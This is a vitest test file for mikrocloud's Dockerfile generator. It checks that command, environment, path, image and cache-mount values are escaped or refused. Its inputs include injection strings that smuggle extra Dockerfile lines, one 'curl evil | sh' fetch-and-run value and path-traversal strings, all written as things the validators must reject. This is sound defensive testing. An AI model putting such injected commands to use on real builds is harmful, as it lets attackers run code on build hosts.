import { describe, expect, it } from 'vitest';
import { ValidationError, findUnconfinedMounts } from '@mikrocloud/core';
import {
  argLine,
  assertSafePath,
  cmdLine,
  copyLine,
  dockerfileImage,
  dockerfilePath,
  dockerfileString,
  envLine,
  fromLine,
  packageCacheMounts,
  quoteValue,
  runShell,
  shellQuote,
} from './dockerfile-text.js';

/** The field a ValidationError names, or undefined when `fn` does not throw one. */
function fieldOf(fn: () => unknown): string | undefined {
  try {
    fn();
  } catch (error) {
    if (error instanceof ValidationError) return error.problems[0]?.field;
    throw error;
  }
  return undefined;
}

const lineBreakers = ['a\nRUN id', 'a\rRUN id', 'a\r\nb', 'a\0b', 'a\u2028b', 'a\u2029b'];

describe('one-line values', () => {
  it('refuses every character that would end a Dockerfile line, naming the field', () => {
    for (const bad of lineBreakers) {
      expect(fieldOf(() => dockerfileString(bad, 'f'))).toBe('f');
      expect(fieldOf(() => runShell(bad, 'static_config.build_command'))).toBe('static_config.build_command');
      expect(fieldOf(() => cmdLine(bad))).toBe('start_command');
      expect(fieldOf(() => cmdLine(['node', bad]))).toBe('start_command.1');
      expect(fieldOf(() => quoteValue(bad, 'v'))).toBe('v');
      expect(fieldOf(() => envLine('X', bad))).toBe('variables.X');
    }
    expect(() => runShell('true\nRUN curl evil | sh', 'static_config.build_command')).toThrow(/static_config.build_command: must not contain newlines/);
  });

  it('keeps quotes, $, backticks and brackets inside one JSON string in exec form', () => {
    expect(runShell('npm run build && echo "$X" `id`', 'f')).toBe('RUN ["sh","-c","npm run build && echo \\"$X\\" `id`"]');
    expect(runShell('echo ] ["x"]; exit', 'f')).toBe('RUN ["sh","-c","echo ] [\\"x\\"]; exit"]');
    expect(cmdLine('node "a b" $PORT')).toBe('CMD ["sh","-c","exec node \\"a b\\" $PORT"]');
    // exec goes before the last command of `a && b`: before the first it would end the container after it.
    expect(cmdLine('python manage.py migrate && gunicorn app')).toBe('CMD ["sh","-c","python manage.py migrate && exec gunicorn app"]');
    expect(cmdLine('a; b | c')).toBe('CMD ["sh","-c","a; b | c"]');
    expect(cmdLine(['node', 'a "b"', '$HOME'])).toBe('CMD ["node","a \\"b\\"","$HOME"]');
    expect(dockerfileString('say "hi" \\o/', 'f')).toBe('"say \\"hi\\" \\\\o/"');
  });

  it('escapes ARG/ENV values so $, quotes and backslashes stay literal', () => {
    expect(envLine('GREETING', 'hi "there" $HOME \\o/')).toBe('ENV GREETING="hi \\"there\\" \\$HOME \\\\o/"');
    expect(argLine('TOKEN', '${SECRET}')).toBe('ARG TOKEN="\\${SECRET}"');
    for (const name of ['1X', 'A-B', 'A B', 'A=B', '$X', '']) expect(fieldOf(() => envLine(name, 'v'))).toBe(`variables.${name}`);
  });

  it('quotes words for sh only when they need it', () => {
    expect(shellQuote('uvicorn>=0.20')).toBe("'uvicorn>=0.20'");
    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
    expect(shellQuote('fastapi')).toBe('fastapi');
  });
});

describe('paths', () => {
  it('JSON-quotes plain relative paths', () => {
    expect(dockerfilePath('dist/my site', 'f')).toBe('"dist/my site"');
    expect(dockerfilePath('./', 'f')).toBe('"./"');
    expect(fieldOf(() => dockerfilePath('a/b/../c', 'f'))).toBe('f');
  });

  it('refuses paths that climb, absolute paths, variables, globs, quotes and control characters', () => {
    const hostile = ['../x', 'a/../../x', '..', '/abs', 'C:\\x', '$HOME/x', '${X}', 'dist/*', 'a?b', '[ab]', 'my "site"', "it's", 'a\\b', 'a\nb', 'a\0b', ''];
    for (const bad of hostile) {
      expect(fieldOf(() => dockerfilePath(bad, 'static_config.output_dir')), JSON.stringify(bad)).toBe('static_config.output_dir');
    }
    expect(fieldOf(() => assertSafePath('x/..', 'root'))).toBe('root');
  });

  it('writes COPY lines with every path checked, absolute ones naming the generated image', () => {
    expect(copyLine(['package.json', 'package-lock.json'], './')).toBe('COPY ["package.json","package-lock.json","./"]');
    expect(copyLine(['/app'], '/app', 'build')).toBe('COPY --from=build ["/app","/app"]');
    expect(fieldOf(() => copyLine(['../../etc'], './', undefined, 'static_config.output_dir'))).toBe('static_config.output_dir');
    expect(fieldOf(() => copyLine(['/app/$X'], './'))).toBe('path');
    expect(fieldOf(() => copyLine(['.'], './', 'build ["x"]'))).toBe('stage');
  });
});

describe('image references', () => {
  it('accepts references and refuses anything that is not one', () => {
    expect(dockerfileImage('registry.local:5000/team/node:20-alpine', 'f')).toBe('registry.local:5000/team/node:20-alpine');
    expect(dockerfileImage(`busybox@sha256:${'a'.repeat(64)}`, 'f')).toBe(`busybox@sha256:${'a'.repeat(64)}`);
    for (const bad of ['node\nRUN id', 'nginx:alpine AS x', 'Node:20', '-x', 'a b', 'x:$TAG', 'nginx:alpine\0', '']) {
      expect(fieldOf(() => dockerfileImage(bad, 'static_config.nginx_image')), JSON.stringify(bad)).toBe('static_config.nginx_image');
    }
  });

  it('writes FROM lines with a checked image and stage name', () => {
    expect(fromLine('node:20-alpine', 'build')).toBe('FROM node:20-alpine AS build');
    expect(fromLine('deps', 'build')).toBe('FROM deps AS build');
    expect(fieldOf(() => fromLine('node AS x'))).toBe('base_images');
    expect(fieldOf(() => fromLine('node', 'Build\nRUN id'))).toBe('stage');
  });
});

describe('cache mounts', () => {
  it('mounts each package manager cache under the repository scope, and nothing without a scope', () => {
    expect(packageCacheMounts('mikrocloud-0123456789abcdef', 'npm')).toEqual([{ id: 'mikrocloud-0123456789abcdef-npm', target: '/root/.npm' }]);
    expect(packageCacheMounts('s', 'go')).toEqual([
      { id: 's-go-build', target: '/root/.cache/go-build' },
      { id: 's-go-mod', target: '/go/pkg/mod' },
    ]);
    expect(packageCacheMounts(undefined, 'pip')).toEqual([]);
    expect(packageCacheMounts('s', undefined)).toEqual([]);
  });

  it('writes RUN --mount=type=cache before the exec form, and a RUN without mounts as before', () => {
    expect(runShell('npm ci', 'install_command', packageCacheMounts('s', 'npm'))).toBe('RUN --mount=type=cache,id=s-npm,target=/root/.npm ["sh","-c","npm ci"]');
    expect(runShell('npm ci')).toBe('RUN ["sh","-c","npm ci"]');
    expect(fieldOf(() => runShell('x', 'c', [{ id: 'a/b', target: '/x' }]))).toBe('cache');
    expect(fieldOf(() => runShell('x', 'c', [{ id: 'a', target: '/x/../etc' }]))).toBe('cache');
    expect(fieldOf(() => runShell('x', 'c', [{ id: 'a', target: 'relative' }]))).toBe('cache');
  });

  it('passes the mount check Podman builds go through', () => {
    const text = `FROM node:20-alpine\n${runShell('npm ci', 'install_command', packageCacheMounts('mikrocloud-0123456789abcdef', 'npm'))}\n${runShell('go build', 'b', packageCacheMounts('mikrocloud-0123456789abcdef', 'go'))}\n`;
    expect(findUnconfinedMounts(text)).toEqual([]);
  });
});
